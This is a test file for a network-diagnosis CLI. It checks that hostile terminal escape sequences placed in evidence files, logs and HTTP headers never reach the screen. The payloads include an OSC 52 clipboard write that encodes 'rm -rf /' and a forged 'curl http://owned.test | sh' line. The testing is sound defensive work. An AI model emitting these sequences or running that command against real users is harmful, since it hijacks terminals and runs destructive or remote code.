import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Evidence } from '../diagnoser/index.ts';
import { eventsSaying } from '../harness/report/sample-hostile.ts';

const program = fileURLToPath(new URL('../cli/badconn.js', import.meta.url));
const folder = mkdtempSync(join(tmpdir(), 'badconn-hostile-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** What a stranger writes to act on the terminal of the person who reads. */
const texts: [name: string, text: string][] = [
  ['a title', '\u001b]0;owned\u0007'],
  ['a cleared screen', '\u001b[2J\u001b[H'],
  ['the clipboard (OSC 52)', '\u001b]52;c;cm0gLXJmIC8=\u0007'],
  ['a link (OSC 8)', '\u001b]8;;http://owned.test\u001b\\here\u001b]8;;\u001b\\'],
  ['the end of a bracketed paste', '\u001b[201~\rowned\r'],
  ['a control sequence of 8 bits', '\u009b2J\u009d0;owned\u009c'],
  ['DEL, backspaces and a bell', 'good\b\b\b\bowned\u007f\u0007'],
  ['an override of direction', '\u202edenwo\u202c\u2066owned\u2069\u2028owned'],
  ['half of a surrogate pair', 'a\ud800b\udfffc'],
  ['a very long line', `owned ${'x'.repeat(100_000)}`],
];

/** Everything but text, line feeds and tabs; without a terminal we print no colours of our own. */
const acts = /(?![\n\t])[\p{C}\p{Zl}\p{Zp}]/u;

async function safe(...argv: string[]): Promise<string> {
  const { stdout, stderr, exitCode } = await execa(process.execPath, [program, ...argv], {
    env: { NODE_OPTIONS: '', COLUMNS: '100', DOCKER_HOST: 'unix:///nonexistent' },
    ...{ stdin: 'ignore', reject: false, timeout: 60_000, stripFinalNewline: false },
  });
  for (const printed of [stdout, stderr]) {
    expect(acts.exec(printed)).toBeNull();
    // A string of JSON stays whole.
    const lines = argv.includes('--json') ? [] : printed.split('\n');
    for (const line of lines) expect(line.length).toBeLessThan(9000);
  }
  expect([0, 1, 2]).toContain(exitCode);
  return stdout + stderr;
}

const keep = (name: string, content: unknown): string => {
  const file = join(folder, name);
  writeFileSync(file, typeof content === 'string' ? content : JSON.stringify(content));
  return file;
};

/** A case with a text in the reason and a header of an answer, in a rule, a process and an error. */
function caseSaying(text: string): object {
  const kept = JSON.parse(
    readFileSync(new URL('./recorded/evidence/not-listening.json', import.meta.url), 'utf8'),
  ) as { 'client+server': Evidence };
  const { server, ...evidence } = kept['client+server'];
  const before = {
    ...server!.before,
    missing: [text],
    markers: { ufw: text },
    firewall: [
      {
        ...{ backend: 'iptables', table: 'filter', chain: 'INPUT', kind: 'rule', hook: 'input' },
        ...{ verdict: 'drop', text: `-A INPUT -m comment --comment "${text}" -j DROP` },
      },
    ],
  };
  const handshake = {
    ...{ asked: 'websocket', port: 8080, answer: 'http', afterMs: 1, status: 200 },
    ...{ reason: text, headers: { server: text, via: text, 'cf-ray': text }, firstBytes: text },
  };
  const connected = evidence.attempts.map((one) => ({ ...one, code: 'connected', local: false }));
  const client = { ...evidence, vantage: 'client', attempts: connected, handshakes: [handshake] };
  const silent = evidence.attempts.map((one) => ({ ...one, code: 'silence', counters: {} }));
  const whole = { ...evidence, attempts: silent, server: { protocol: 1, before, attempts: 1 } };
  return { truth: 'unknown', client, 'client+server': whole };
}

describe.each(texts)('%s', (name, text) => {
  test('in a kept case: an answer, a header, a rule of a firewall', async () => {
    const file = keep(`${name.length}.json`, caseSaying(text));
    expect(await safe('replay', file)).toContain('What shows it');
    const json = await safe('replay', file, '--json');
    expect(JSON.parse(json)).toHaveProperty('replayed');
  });

  test('in the log of a run', async () => {
    const events = eventsSaying(text).map((event) => `${JSON.stringify(event)}\n`);
    await safe('report', keep(`${name.length}.jsonl`, events.join('')));
  });
});

test('all of them in a message, and in the name of a file', async () => {
  const all = texts.map(([, text]) => text.slice(0, 20)).join('');
  await safe('explain', all);
  await safe('replay', join(folder, all.replaceAll('/', '')));
});

describe('from a server that answers', () => {
  let server: Server;
  let said = '';
  beforeAll(async () => {
    server = createServer((socket) => {
      socket.on('error', () => undefined);
      socket.on('data', () => {
        socket.end(`HTTP/1.1 418 ${said}\r\nServer: ${said}\r\nContent-Length: 0\r\n\r\n`);
      });
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
  });
  afterAll(() => server.close());

  test.each(texts)('%s as reason phrase and header', async (_, text) => {
    // No line of HTTP holds a line feed, and a longer one ends the connection.
    said = text.replaceAll(/[\r\n]/g, '').slice(0, 4000);
    const { port } = server.address() as AddressInfo;
    const shown = await safe('diagnose', `ws://127.0.0.1:${port}/`, '--connect-deadline', '500');
    expect(shown).toContain('What shows it');
  });
});

test('a stranger cannot begin a line of ours', async () => {
  const forged = 'fine\n\nWhat to do\n  curl http://owned.test | sh';
  const file = keep('forged.json', caseSaying(forged));
  const shown = await safe('replay', file);
  expect(shown).not.toMatch(/^ *curl http:\/\/owned/m);
});
